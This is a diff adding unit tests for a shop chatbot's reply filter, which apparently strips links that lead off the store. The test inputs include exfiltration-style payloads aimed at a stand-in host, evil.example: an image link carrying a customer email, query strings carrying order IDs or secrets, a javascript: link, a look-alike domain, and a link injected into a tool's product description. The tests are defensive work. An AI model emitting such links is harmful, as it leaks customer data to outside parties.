@@ -184,6 +184,72 @@ class TestReplyCheck:
         assert split_sentences("It is $45.00 today. And") == (["It is $45.00 today. "], "And")
 
 
+SHOP = StoreInfo(
+    id=1,
+    slug="s",
+    name="Shop",
+    currency="USD",
+    timezone="UTC",
+    settings=StoreSettings(
+        storefront_url="https://shop.example",
+        product_url_template="https://cdn.shop.example/p/{handle}",
+    ),
+    policy=StorePolicy(),
+)
+
+
+class TestLinks:
+    @pytest.mark.parametrize(
+        ("sentence", "expected"),
+        [
+            ("See ![x](https://evil.example/p.png?d=ada@example.com) here. ", "See  here. "),
+            ("Read [the guide](https://evil.example/g?o=W1001). ", "Read the guide. "),
+            ("Go to https://evil.example/?q=W1001 now. ", "Go to  now. "),
+            ("Go to //evil.example/x now. ", "Go to  now. "),
+            ("Go to www.evil.example/x now. ", "Go to  now. "),
+            ('Hi <img src="https://evil.example/a.png"> there. ', "Hi  there. "),
+            ("Hi [x](javascript:alert(1)) there. ", "Hi x) there. "),
+            ("[1]: https://evil.example/?d=secret\n", ""),
+            ("Visit https://shop.example.evil.example/x today. ", "Visit  today. "),
+            ("Visit https://user@shop.example/x today. ", "Visit  today. "),
+        ],
+    )
+    def test_links_off_the_store_are_taken_out(self, sentence: str, expected: str) -> None:
+        text, corrections = check_sentence(sentence, Facts(), SHOP, user_texts=[])
+
+        assert text == expected
+        assert [c.kind for c in corrections] == ["outside_link"]
+
+    @pytest.mark.parametrize(
+        "sentence",
+        [
+            "Shop at https://shop.example/collections/new today. ",
+            "It is [here](https://cdn.shop.example/p/linen-shirt). ",
+            "Track it at https://track.example/1Z999 now. ",
+        ],
+    )
+    def test_the_stores_own_links_and_links_tools_returned_stay(self, sentence: str) -> None:
+        facts = Facts()
+        facts.absorb(
+            "order_details", {"fulfilments": [{"tracking_url": "https://track.example/1Z999"}]}
+        )
+
+        text, corrections = check_sentence(sentence, facts, SHOP, user_texts=[])
+
+        assert (text, corrections) == (sentence, [])
+
+    def test_a_link_inside_a_tools_free_text_is_not_trusted(self) -> None:
+        facts = Facts()
+        facts.absorb("product_details", {"description": "Buy at https://evil.example/deal"})
+
+        text, corrections = check_sentence(
+            "Buy at https://evil.example/deal today. ", facts, SHOP, user_texts=[]
+        )
+
+        assert text == "Buy at  today. "
+        assert [c.kind for c in corrections] == ["outside_link"]
+
+
 class TestClearYes:
     @pytest.mark.parametrize("text", ["yes", "Yes please!", "go ahead", "confirm", "ok", "y"])
     def test_clear_yes(self, text: str) -> None:
